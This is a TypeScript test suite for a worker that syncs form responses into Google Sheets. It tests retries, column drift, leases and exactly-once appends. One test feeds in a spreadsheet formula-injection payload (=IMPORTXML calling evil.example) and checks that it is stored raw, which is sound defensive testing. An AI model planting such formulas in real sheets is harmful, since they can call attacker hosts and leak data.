import { afterAll, beforeAll, expect, it } from 'vitest';
import type { DatabaseHandle } from '../../db/database.js';
import { describeEachDialect } from '../../test/dialects.js';
import { createSheetSyncRepository } from './sheet-sync.repository.js';
import { createSheetSyncService } from './sheet-sync.service.js';
import {
  createSyncTestDatabase,
  eventually,
  FAST,
  insertForm,
  insertResponse,
  insertUser,
  responseRows,
  type SyncEmulator,
  startSyncEmulator,
  updateFormFields,
} from './sheet-sync.test-support.js';
import { createSheetSyncWorker, type SheetSyncWorkerOptions } from './sheet-sync.worker.js';

const FIELDS = [{ label: 'Name' }, { label: 'Email' }, { label: 'Comment' }];

/** Every id exactly once in the sheet's Response ID column (no duplicates, nothing missing). */
async function expectExactlyOnce(t: SyncEmulator, spreadsheetId: string, sheet: string, ids: string[]) {
  const values = await t.sheetValues(spreadsheetId, sheet);
  const header = values[0] ?? [];
  const column = header.indexOf('Response ID');
  expect(column).toBeGreaterThanOrEqual(0);
  const inSheet = values.slice(1).map((row) => row[column] ?? '');
  const counts = new Map<string, number>();
  for (const id of inSheet) counts.set(id, (counts.get(id) ?? 0) + 1);
  const duplicates = [...counts].filter(([, n]) => n > 1).map(([id]) => id);
  const missing = ids.filter((id) => !counts.has(id));
  expect({ duplicates, missing, rows: inSheet.length }).toEqual({
    duplicates: [],
    missing: [],
    rows: ids.length,
  });
}

describeEachDialect('sheet sync worker', (dialect) => {
  let database: DatabaseHandle & { dataDir: string };
  let t: SyncEmulator;
  let ownerId: string;

  beforeAll(async () => {
    database = await createSyncTestDatabase(dialect);
    t = await startSyncEmulator(database.dataDir);
    ownerId = await insertUser(database);
  });
  afterAll(async () => {
    await t?.close();
    await database?.close();
  });

  function worker(overrides: Partial<SheetSyncWorkerOptions> = {}) {
    return createSheetSyncWorker({
      db: database.db,
      dialect,
      sheets: t.sheets,
      shareWithEmail: t.serviceAccountEmail,
      ...FAST,
      ...overrides,
    });
  }

  /** Runs rounds until every given response is settled (synced or failed). */
  async function drain(w: ReturnType<typeof worker>, ids: string[], timeoutMs = 30_000) {
    await eventually(
      async () => {
        await w.runOnce();
        const rows = await responseRows(database, ids);
        return rows.every((row) => row.sync_state === 'synced' || row.sync_state === 'failed');
      },
      timeoutMs,
      5,
    );
  }

  it('appends pending responses once, RAW, under matching headers with Timestamp and Response ID', async () => {
    const spreadsheetId = await t.createSpreadsheet([
      { title: 'Responses', rows: [['Name', 'Email', 'Comment', 'Timestamp', 'Response ID']] },
    ]);
    const form = await insertForm(database, ownerId, {
      spreadsheetId,
      sheetName: 'Responses',
      fields: FIELDS,
    });
    const a = await insertResponse(
      database,
      form.id,
      { Name: 'Ann', Email: 'ann@example.org', Comment: '=IMPORTXML("http://evil.example","//a")' },
      { createdAt: '2026-03-07T21:05:00.000Z' },
    );
    const b = await insertResponse(
      database,
      form.id,
      { Name: 'Bob', Comment: '0012' },
      { createdAt: '2026-03-07T09:01:00.000Z' },
    );
    const w = worker();
    const summary = await w.runOnce();
    expect(summary).toMatchObject({ claimed: 2, synced: 2, failed: 0, retried: 0 });
    expect(await t.sheetValues(spreadsheetId, 'Responses')).toEqual([
      ['Name', 'Email', 'Comment', 'Timestamp', 'Response ID'],
      ['Bob', '', '0012', '03/07/2026, 09:01 AM', b],
      ['Ann', 'ann@example.org', '=IMPORTXML("http://evil.example","//a")', '03/07/2026, 09:05 PM', a],
    ]);
    const rows = await responseRows(database, [a, b]);
    expect(rows.map((r) => r.sync_state)).toEqual(['synced', 'synced']);
    expect(rows.every((r) => r.synced_at !== null)).toBe(true);
    // Nothing is written twice.
    expect(await w.runOnce()).toMatchObject({ claimed: 0 });
    expect(await t.sheetValues(spreadsheetId, 'Responses')).toHaveLength(3);
    expect(
      await createSheetSyncService(createSheetSyncRepository(database.db, dialect)).responseSyncState(a),
    ).toBe('synced');
  });

  it('creates a missing sheet with its header, and a Signature column when signatures are on', async () => {
    const spreadsheetId = await t.createSpreadsheet([{ title: 'Sheet1' }]);
    const form = await insertForm(database, ownerId, {
      spreadsheetId,
      sheetName: "Bob's Responses",
      fields: FIELDS,
      signatureEnabled: true,
    });
    const id = await insertResponse(
      database,
      form.id,
      { Name: 'Cy', Email: 'cy@x.org', Comment: 'hi' },
      {
        signatureUrl: 'https://forms.example/uploads/sig-1.png',
        createdAt: '2026-01-02T00:30:00.000Z',
      },
    );
    await drain(worker(), [id]);
    expect(await t.sheetValues(spreadsheetId, "Bob's Responses")).toEqual([
      ['Name', 'Email', 'Comment', 'Timestamp', 'Response ID', 'Signature'],
      ['Cy', 'cy@x.org', 'hi', '01/02/2026, 12:30 AM', id, 'https://forms.example/uploads/sig-1.png'],
    ]);
  });

  it('column drift: renamed, added and removed fields and a hand-reordered sheet keep every column in place', async () => {
    const spreadsheetId = await t.createSpreadsheet([
      {
        title: 'Data',
        rows: [
          ['Response ID', 'Notes', 'Email', 'Timestamp', 'Name', 'Phone'],
          ['old-1', 'kept', 'old@x.org', 'then', 'Old', '555'],
        ],
      },
    ]);
    const form = await insertForm(database, ownerId, {
      spreadsheetId,
      sheetName: 'Data',
      fields: [{ label: 'Name' }, { label: 'Email' }, { label: 'Phone' }],
    });
    const before = await insertResponse(database, form.id, { Name: 'Ann', Email: 'a@x.org', Phone: '123' });
    await updateFormFields(database, form.id, [
      { label: 'Full name', name: 'Name' }, // renamed in the generator
      { label: 'E-mail' }, // renamed by hand
      { label: 'Phone', isRemoved: true },
      { label: 'City' }, // added
    ]);
    const after = await insertResponse(database, form.id, {
      'Full name': 'Bea',
      'E-mail': 'b@x.org',
      City: 'Oslo',
    });
    await drain(worker(), [before, after]);
    const values = await t.sheetValues(spreadsheetId, 'Data');
    expect(values[0]).toEqual([
      'Response ID',
      'Notes',
      'Email',
      'Timestamp',
      'Name',
      'Phone',
      'E-mail',
      'City',
    ]);
    expect(values[1]).toEqual(['old-1', 'kept', 'old@x.org', 'then', 'Old', '555']);
    expect(values[2]).toEqual([before, '', 'a@x.org', expect.any(String), 'Ann', '123']);
    expect(values[3]).toEqual([after, '', '', expect.any(String), 'Bea', '', 'b@x.org', 'Oslo']);
  });

  /** The sheet's grid width, as Google reports it. */
  async function columnCount(spreadsheetId: string, title: string) {
    const spreadsheet = await t.sheets.getSpreadsheet(spreadsheetId);
    return spreadsheet.sheets.find((sheet) => sheet.title === title)?.columnCount;
  }

  it('grows the grid before writing header cells past its last column', async () => {
    // 24 labels on the default 26-column grid: two new fields, Timestamp and Response ID need 28.
    const labels = Array.from({ length: 24 }, (_, i) => `Q${i + 1}`);
    const spreadsheetId = await t.createSpreadsheet([{ title: 'Wide', rows: [labels] }]);
    expect(await columnCount(spreadsheetId, 'Wide')).toBe(26);
    const form = await insertForm(database, ownerId, {
      spreadsheetId,
      sheetName: 'Wide',
      fields: [...labels, 'City', 'Phone'].map((label) => ({ label })),
    });
    const id = await insertResponse(
      database,
      form.id,
      { Q1: 'first', Q24: 'last', Phone: '555' },
      { createdAt: '2026-03-07T21:05:00.000Z' },
    );
    expect(await worker().runOnce()).toMatchObject({ claimed: 1, synced: 1, failed: 0, retried: 0 });
    expect(await columnCount(spreadsheetId, 'Wide')).toBe(28);
    const blanks = (n: number) => new Array<string>(n).fill('');
    expect(await t.sheetValues(spreadsheetId, 'Wide')).toEqual([
      [...labels, 'City', 'Phone', 'Timestamp', 'Response ID'],
      ['first', ...blanks(22), 'last', '', '555', '03/07/2026, 09:05 PM', id],
    ]);
  });

  it('grows a sheet it creates when the full header is wider than the new grid', async () => {
    const spreadsheetId = await t.createSpreadsheet([{ title: 'Sheet1' }]);
    const labels = Array.from({ length: 30 }, (_, i) => `Field ${i + 1}`);
    const form = await insertForm(database, ownerId, {
      spreadsheetId,
      sheetName: 'Many fields',
      fields: labels.map((label) => ({ label })),
    });
    const id = await insertResponse(database, form.id, { 'Field 30': 'z' });
    await drain(worker(), [id]);
    expect((await responseRows(database, [id]))[0]).toMatchObject({ sync_state: 'synced', last_error: null });
    expect(await columnCount(spreadsheetId, 'Many fields')).toBe(32);
    const [header, row] = await t.sheetValues(spreadsheetId, 'Many fields');
    expect(header).toEqual([...labels, 'Timestamp', 'Response ID']);
    expect(row?.[29]).toBe('z');
    expect(row?.[31]).toBe(id);
  });

  it("fails with a reason the owner can act on when Google's cell limit stops the grid from growing", async () => {
    const labels = Array.from({ length: 25 }, (_, i) => `Q${i + 1}`);
    const spreadsheetId = await t.createSpreadsheet([{ title: 'Full', rows: [labels] }]);
    // 384,615 rows × 26 columns: 10 cells short of Google's 10 million, too few for new columns.
    const [full] = (await t.sheets.getSpreadsheet(spreadsheetId)).sheets;
    await t.sheets.appendDimension(spreadsheetId, full?.sheetId ?? 0, 'ROWS', 383_615);
    const form = await insertForm(database, ownerId, {
      spreadsheetId,
      sheetName: 'Full',
      fields: labels.map((label) => ({ label })),
    });
    const id = await insertResponse(database, form.id, { Q1: 'x' });
    expect(await worker().runOnce()).toMatchObject({ claimed: 1, failed: 1 });
    const [row] = await responseRows(database, [id]);
    expect(row?.sync_state).toBe('failed');
    expect(row?.last_error).toMatch(
      /^Sheet "Full" could not grow to fit new columns \(Timestamp, Response ID\): .*above the limit of 10000000 cells\. Make room in the spreadsheet/,
    );
    expect(await t.sheetValues(spreadsheetId, 'Full')).toEqual([labels]);
  });

  it('fails with a reason the owner can act on when row 1 holds more text than the writer reads', async () => {
    // 90 cells of 48,000 characters: 4.3 MB of header, over HEADER_ROW_MAX_BYTES (4 MiB).
    const header = Array.from({ length: 90 }, (_, i) => `Q${i} `.padEnd(48_000, 'x'));
    const spreadsheetId = await t.createSpreadsheet([{ title: 'Wordy', rows: [header] }]);
    const form = await insertForm(database, ownerId, { spreadsheetId, sheetName: 'Wordy', fields: FIELDS });
    const id = await insertResponse(database, form.id, { Name: 'Ann' });
    expect(await worker().runOnce()).toMatchObject({ claimed: 1, failed: 1, retried: 0 });
    const [row] = await responseRows(database, [id]);
    expect(row?.sync_state).toBe('failed');
    expect(row?.last_error).toBe(
      'Sheet "Wordy" has more text in its header row (row 1) than SheetForms reads (4 MB), so its columns cannot be matched. Shorten or clear long header cells, then retry the failed responses.',
    );
    const values = await t.sheetValues(spreadsheetId, 'Wordy');
    expect(values.map((cells) => cells.length)).toEqual([90]); // nothing written
  });

  it("marks 403 failed with 'Share the spreadsheet with …', 404 'Spreadsheet not found', and retries on request", async () => {
    const email = await t.serviceAccountEmail();
    const privateId = await t.createSpreadsheet([{ title: 'Sheet1' }], false);
    const privateForm = await insertForm(database, ownerId, {
      spreadsheetId: privateId,
      sheetName: 'Sheet1',
      fields: FIELDS,
    });
    const missingForm = await insertForm(database, ownerId, {
      spreadsheetId: '1NoSuchSpreadsheetExistsHere000000000000000',
      sheetName: 'Sheet1',
      fields: FIELDS,
    });
    const p = await insertResponse(database, privateForm.id, { Name: 'P' });
    const m = await insertResponse(database, missingForm.id, { Name: 'M' });
    const w = worker();
    await drain(w, [p, m]);
    const [rp, rm] = await Promise.all([responseRows(database, [p]), responseRows(database, [m])]);
    expect(rp[0]).toMatchObject({ sync_state: 'failed', attempts: 1 });
    expect(rp[0]?.last_error).toContain(`Share the spreadsheet with ${email}`);
    expect(rm[0]).toMatchObject({ sync_state: 'failed' });
    expect(rm[0]?.last_error).toMatch(/^Spreadsheet not found/);

    const service = createSheetSyncService(createSheetSyncRepository(database.db, dialect));
    expect(await service.syncCountsForForms(ownerId)).toMatchObject({
      [privateForm.formId]: { pending: 0, failed: 1 },
      [missingForm.formId]: { pending: 0, failed: 1 },
    });
    expect(await service.retryFailedForForm('someone-else', privateForm.formId)).toBeUndefined();
    expect(await service.syncCountsForForms('someone-else')).toEqual({});
    // The owner shares the sheet and retries.
    await t.control('PATCH', `/spreadsheets/${privateId}`, {
      sharing: { link: 'none', people: [{ email, role: 'edit' }] },
    });
    expect(await service.retryFailedForForm(ownerId, privateForm.formId)).toBe(1);
    expect(await service.responseSyncState(p)).toBe('pending');
    await drain(w, [p]);
    expect(await service.responseSyncState(p)).toBe('synced');
    await expectExactlyOnce(t, privateId, 'Sheet1', [p]);
  });

  it('retries 429 and 5xx with backoff, then syncs', async () => {
    // With the header in place, the only write is the append.
    const spreadsheetId = await t.createSpreadsheet([
      { title: 'Sheet1', rows: [['Name', 'Email', 'Comment', 'Timestamp', 'Response ID']] },
    ]);
    const form = await insertForm(database, ownerId, { spreadsheetId, sheetName: 'Sheet1', fields: FIELDS });
    const id = await insertResponse(database, form.id, { Name: 'R' });
    const w = worker({ backoff: { baseMs: 200, factor: 2, capMs: 1000 }, random: () => 0.99 });
    try {
      await t.control('PUT', '/faults', { errorRate: 1, errorStatus: 429, target: 'all' });
      expect(await w.runOnce()).toMatchObject({ claimed: 1, retried: 1 });
      let [row] = await responseRows(database, [id]);
      // A quota answer is not counted as a try: Google asked to wait, the response did nothing wrong.
      expect(row).toMatchObject({ sync_state: 'pending', attempts: 0, dedupe_required: 0 });
      expect(row?.next_attempt_at).not.toBeNull();
      // Not claimed again before next_attempt_at.
      expect(await w.runOnce()).toMatchObject({ claimed: 0 });
      await t.control('PUT', '/faults', { errorRate: 1, errorStatus: 503, target: 'writes' });
      await eventually(async () => (await w.runOnce()).retried === 1, 5_000);
      [row] = await responseRows(database, [id]);
      // A 503 on the append may hide a stored row: the next try checks the sheet first.
      expect(row).toMatchObject({ sync_state: 'pending', attempts: 1, dedupe_required: 1 });
      // The owner sees Google's answer; the ambiguity is the worker's business (dedupe_required).
      expect(row?.last_error).toMatch(/^Google answered 503/);
    } finally {
      await t.control('DELETE', '/faults');
    }
    await drain(w, [id]);
    await expectExactlyOnce(t, spreadsheetId, 'Sheet1', [id]);
  });

  it('keeps retrying a response that keeps failing, with its last error kept while it waits', async () => {
    const spreadsheetId = await t.createSpreadsheet([
      { title: 'Sheet1', rows: [['Name', 'Email', 'Comment', 'Timestamp', 'Response ID']] },
    ]);
    const form = await insertForm(database, ownerId, { spreadsheetId, sheetName: 'Sheet1', fields: FIELDS });
    const id = await insertResponse(database, form.id, { Name: 'Stubborn' });
    // No wait between tries (jitter 0), so many failed tries run quickly.
    const w = worker({ random: () => 0 });
    const repo = createSheetSyncRepository(database.db, dialect);
    try {
      await t.control('PUT', '/faults', { errorRate: 1, errorStatus: 503, target: 'all' });
      for (let attempt = 1; attempt <= 8; attempt++) {
        expect(await w.runOnce()).toMatchObject({ claimed: 1, retried: 1, failed: 0 });
        const [row] = await responseRows(database, [id]);
        expect(row).toMatchObject({ sync_state: 'pending', attempts: attempt });
        expect(row?.last_error).toMatch(/unavailable/i);
      }
      // Claimed again, or given back untried: the last error stays until the row is in the sheet.
      const at = Date.now();
      const claimed = await repo.claim({
        now: new Date(at).toISOString(),
        leaseUntil: new Date(at + 60_000).toISOString(),
        workerId: 'holder',
        limit: 10,
      });
      expect(claimed.map((r) => r.id)).toContain(id);
      expect((await responseRows(database, [id]))[0]?.last_error).toMatch(/unavailable/i);
      expect(await repo.release([id], 'holder')).toBe(1);
      expect((await responseRows(database, [id]))[0]?.last_error).toMatch(/unavailable/i);
    } finally {
      await t.control('DELETE', '/faults');
    }
    await drain(w, [id]);
    expect((await responseRows(database, [id]))[0]).toMatchObject({ sync_state: 'synced', last_error: null });
    await expectExactlyOnce(t, spreadsheetId, 'Sheet1', [id]);
  });

  it('returns a claim after its lease ends (a crashed worker), checking the sheet before writing again', async () => {
    const spreadsheetId = await t.createSpreadsheet([{ title: 'Sheet1' }]);
    const form = await insertForm(database, ownerId, { spreadsheetId, sheetName: 'Sheet1', fields: FIELDS });
    const ids = [
      await insertResponse(database, form.id, { Name: 'L1' }),
      await insertResponse(database, form.id, { Name: 'L2' }),
    ];
    const repo = createSheetSyncRepository(database.db, dialect);
    const at = Date.now();
    // A worker claims, appends the first row, and dies before settling. The lease outlasts the steps
    // below on a slow machine (it used to be 300 ms, and a slow claim and two appends could outlast it).
    const leaseMs = 2_000;
    const claimed = await repo.claim({
      now: new Date(at).toISOString(),
      leaseUntil: new Date(at + leaseMs).toISOString(),
      workerId: 'crashed',
      limit: 10,
    });
    expect(claimed.map((r) => r.id)).toEqual(ids);
    await t.sheets.appendValues(spreadsheetId, 'Sheet1', [
      ['Name', 'Email', 'Comment', 'Timestamp', 'Response ID'],
    ]);
    await t.sheets.appendValues(spreadsheetId, 'Sheet1', [['L1', '', '', 'ts', ids[0] ?? '']]);
    const w = worker();
    // While the lease lasts, nobody else takes the claim.
    expect(await w.runOnce()).toMatchObject({ claimed: 0 });
    await new Promise((resolve) => setTimeout(resolve, Math.max(0, at + leaseMs + 50 - Date.now())));
    expect(await w.runOnce()).toMatchObject({ claimed: 2, synced: 2, alreadyPresent: 1 });
    await expectExactlyOnce(t, spreadsheetId, 'Sheet1', ids);
    // The dead worker cannot settle what it no longer holds.
    expect(await repo.markFailed(ids, 'crashed', 'late')).toBe(0);
  });

  it('ends only the response that used its last try, never the newer ones in its batch', async () => {
    const spreadsheetId = await t.createSpreadsheet([
      { title: 'Sheet1', rows: [['Name', 'Email', 'Comment', 'Timestamp', 'Response ID']] },
    ]);
    const form = await insertForm(database, ownerId, { spreadsheetId, sheetName: 'Sheet1', fields: FIELDS });
    const old = await insertResponse(database, form.id, { Name: 'Old' });
    const fresh = await insertResponse(database, form.id, { Name: 'Fresh' });
    await database.db.updateTable('responses').set({ attempts: 2 }).where('id', '=', old).execute();
    const w = worker({ maxAttempts: 3, random: () => 0 });
    try {
      await t.control('PUT', '/faults', { errorRate: 1, errorStatus: 503, target: 'all' });
      expect(await w.runOnce()).toMatchObject({ claimed: 2, failed: 1, retried: 1 });
    } finally {
      await t.control('DELETE', '/faults');
    }
    const rows = new Map((await responseRows(database, [old, fresh])).map((row) => [row.id, row]));
    expect(rows.get(old)).toMatchObject({ sync_state: 'failed', attempts: 3 });
    expect(rows.get(old)?.last_error).toMatch(/^Google kept failing after 3 tries/);
    expect(rows.get(fresh)).toMatchObject({ sync_state: 'pending', attempts: 1 });
    // Nothing left in the queue for the tests after this one.
    await drain(w, [fresh]);
  });

  it('stops a batch whose lease ran out mid-batch before it writes a header cell, so two instances never both write row 1', async () => {
    // Row 1 names only Name: both forms' batches add header cells at the end of it.
    const spreadsheetId = await t.createSpreadsheet([
      { title: 'Sheet1', rows: [['Name', 'Timestamp', 'Response ID']] },
    ]);
    const first = await insertForm(database, ownerId, {
      spreadsheetId,
      sheetName: 'Sheet1',
      fields: [{ label: 'Name' }, { label: 'Email' }],
    });
    const second = await insertForm(database, ownerId, {
      spreadsheetId,
      sheetName: 'Sheet1',
      fields: [{ label: 'City' }],
    });
    const ann = await insertResponse(database, first.id, { Name: 'Ann', Email: 'ann@example.org' });
    // Instance A reads row 1, then is held longer than its lease (in production: waiting for the read
    // budget, or the event loop stalled) before its next call.
    const leaseMs = 1_000;
    let holdRowOne = true;
    const slowRowOne = {
      ...t.sheets,
      getValues: async (id: string, range: string) => {
        const values = await t.sheets.getValues(id, range);
        if (holdRowOne && range.endsWith('!1:1')) {
          holdRowOne = false;
          await new Promise((resolve) => setTimeout(resolve, leaseMs + 800));
        }
        return values;
      },
    } as typeof t.sheets;
    const a = worker({ sheets: slowRowOne, leaseMs, workerId: 'instance-a' });
    const b = worker({ leaseMs: 60_000, workerId: 'instance-b' });
    const roundA = a.runOnce();
    await new Promise((resolve) => setTimeout(resolve, leaseMs + 300));
    // Meanwhile B takes the claim that ran out, with a second form's response to the same tab, writes its
    // header cells (Email, City) and appends both.
    const lyon = await insertResponse(database, second.id, { City: 'Lyon' });
    await drain(b, [ann, lyon]);
    // A goes on after its hold: it must not write the header cells it planned from its old read of row 1.
    await roundA;
    const values = await t.sheetValues(spreadsheetId, 'Sheet1');
    const header = values[0] ?? [];
    const byId = new Map(values.slice(1).map((row) => [row[header.indexOf('Response ID')], row]));
    expect(byId.get(lyon)?.[header.indexOf('City')]).toBe('Lyon');
    expect(byId.get(ann)?.[header.indexOf('Email')]).toBe('ann@example.org');
    expect(header.filter((cell) => cell === 'Email')).toHaveLength(1);
    await expectExactlyOnce(t, spreadsheetId, 'Sheet1', [ann, lyon]);
  });

  it('survives lost replies, 429s, 500s and latency: every response exactly once', async () => {
    const spreadsheetIds = await Promise.all([1, 2, 3].map(() => t.createSpreadsheet([{ title: 'Sheet1' }])));
    const ids = new Map<string, string[]>();
    for (const spreadsheetId of spreadsheetIds) {
      const form = await insertForm(database, ownerId, {
        spreadsheetId,
        sheetName: 'Sheet1',
        fields: FIELDS,
      });
      const list: string[] = [];
      for (let i = 0; i < 80; i++)
        list.push(await insertResponse(database, form.id, { Name: `N${i}`, Comment: `c${i}` }));
      ids.set(spreadsheetId, list);
    }
    const all = [...ids.values()].flat();
    const w = worker({ batchSize: 25, maxRowsPerAppend: 10 });
    try {
      await t.control('PUT', '/faults', { replyLostWrites: 6, latencyMs: 5, target: 'writes' });
      await eventually(
        async () => {
          await w.runOnce();
          return (await t.control('GET', '/faults')).faults.replyLostWrites === 0;
        },
        20_000,
        5,
      );
      await t.control('PUT', '/faults', { errorRate: 0.3, errorStatus: 500, latencyMs: 5 });
      for (let i = 0; i < 10; i++) await w.runOnce();
      await t.control('PUT', '/faults', { errorRate: 0.3, errorStatus: 429 });
      for (let i = 0; i < 10; i++) await w.runOnce();
    } finally {
      await t.control('DELETE', '/faults');
    }
    await drain(w, all, 60_000);
    const rows = await responseRows(database, all);
    expect(rows.filter((r) => r.sync_state !== 'synced')).toEqual([]);
    for (const [spreadsheetId, list] of ids) await expectExactlyOnce(t, spreadsheetId, 'Sheet1', list);
  });

  it('an append Google applies after our timeout is not written twice: the check waits for it to land', async () => {
    // A client that gives up after 300 ms, against writes that take 1 s: the append is applied after the
    // worker saw it fail. Checking the Response ID column at once would find nothing and append again.
    const slow = await startSyncEmulator(`${database.dataDir}/slow-google`, 300);
    try {
      const spreadsheetId = await slow.createSpreadsheet([
        { title: 'Sheet1', rows: [[...FIELDS.map((f) => f.label), 'Timestamp', 'Response ID']] },
      ]);
      const form = await insertForm(database, ownerId, {
        spreadsheetId,
        sheetName: 'Sheet1',
        fields: FIELDS,
      });
      const ids = [
        await insertResponse(database, form.id, { Name: 'Late', Comment: 'one' }),
        await insertResponse(database, form.id, { Name: 'Late', Comment: 'two' }),
      ];
      const w = createSheetSyncWorker({
        db: database.db,
        dialect,
        sheets: slow.sheets,
        shareWithEmail: slow.serviceAccountEmail,
        ...FAST,
        ambiguousSettleMs: 2_000,
      });
      await slow.control('PUT', '/faults', { latencyMs: 1_000, target: 'writes' });
      const first = await w.runOnce();
      expect(first.retried).toBe(2);
      await slow.control('DELETE', '/faults');
      const [row] = await responseRows(database, ids);
      // Settling: 2 s, where the backoff alone is at most 50 ms (with room for a slow machine's steps).
      expect(Date.parse(row?.next_attempt_at ?? '') - Date.now()).toBeGreaterThan(500);
      await drain(w, ids, 15_000);
      await expectExactlyOnce(slow, spreadsheetId, 'Sheet1', ids);
    } finally {
      await slow.close();
    }
  });

  it('runs as a loop: start, notify, graceful stop', async () => {
    const spreadsheetId = await t.createSpreadsheet([{ title: 'Sheet1' }]);
    const form = await insertForm(database, ownerId, { spreadsheetId, sheetName: 'Sheet1', fields: FIELDS });
    // The poll is far away: only the notify (or the first round, if it claims after the insert) syncs
    // the response in time. A notify that comes while the first round runs must not be forgotten.
    const w = worker({ pollMs: 60_000 });
    w.start();
    try {
      const id = await insertResponse(database, form.id, { Name: 'Loop' });
      w.notify();
      await eventually(async () => (await responseRows(database, [id]))[0]?.sync_state === 'synced', 15_000);
    } finally {
      await w.stop();
    }
  });

  it('spaces idle claims, yet a notify that comes during the gap still wakes the loop', async () => {
    const spreadsheetId = await t.createSpreadsheet([{ title: 'Sheet1' }]);
    const form = await insertForm(database, ownerId, { spreadsheetId, sheetName: 'Sheet1', fields: FIELDS });
    const w = worker({ pollMs: 10_000, idleClaimGapMs: 300 });
    w.start();
    try {
      await new Promise((resolve) => setTimeout(resolve, 50)); // the first round found nothing: in its gap now
      const id = await insertResponse(database, form.id, { Name: 'Gap' });
      w.notify();
      const started = Date.now();
      await eventually(async () => (await responseRows(database, [id]))[0]?.sync_state === 'synced', 5_000);
      // Woken when the 300 ms gap ends, not when the 10 s poll comes round.
      expect(Date.now() - started).toBeLessThan(3_000);
    } finally {
      await w.stop();
    }
  });

  if (dialect === 'postgres') {
    it('two workers on PostgreSQL write 200 responses, each exactly once', async () => {
      const spreadsheetIds = await Promise.all(
        [1, 2, 3, 4].map(() => t.createSpreadsheet([{ title: 'Sheet1' }])),
      );
      const ids = new Map<string, string[]>();
      for (const spreadsheetId of spreadsheetIds) {
        await insertForm(database, ownerId, {
          spreadsheetId,
          sheetName: 'Sheet1',
          fields: FIELDS,
        });
        ids.set(spreadsheetId, []);
      }
      const forms = await database.db
        .selectFrom('forms')
        .select(['id', 'spreadsheet_id'])
        .where('spreadsheet_id', 'in', spreadsheetIds)
        .execute();
      for (let i = 0; i < 200; i++) {
        const form = forms[i % forms.length];
        if (!form?.spreadsheet_id) throw new Error('no form');
        ids.get(form.spreadsheet_id)?.push(await insertResponse(database, form.id, { Name: `W${i}` }));
      }
      const all = [...ids.values()].flat();
      const workers = [worker({ batchSize: 15, pollMs: 5 }), worker({ batchSize: 15, pollMs: 5 })];
      const perWorker = new Map<string, number>();
      const counting = workers.map((w) => {
        const runOnce = w.runOnce;
        return async () => {
          const summary = await runOnce();
          perWorker.set(w.workerId, (perWorker.get(w.workerId) ?? 0) + summary.synced);
          return summary;
        };
      });
      await t.control('PUT', '/faults', { latencyMs: 10 });
      try {
        await Promise.all(
          counting.map((run) =>
            eventually(
              async () => {
                await run();
                const rows = await responseRows(database, all);
                return rows.every((row) => row.sync_state === 'synced');
              },
              60_000,
              1,
            ),
          ),
        );
      } finally {
        await t.control('DELETE', '/faults');
      }
      for (const [spreadsheetId, list] of ids) await expectExactlyOnce(t, spreadsheetId, 'Sheet1', list);
      // Both took part.
      expect([...perWorker.values()].filter((n) => n > 0)).toHaveLength(2);
      expect([...perWorker.values()].reduce((a, b) => a + b, 0)).toBe(200);
    });
  }
});
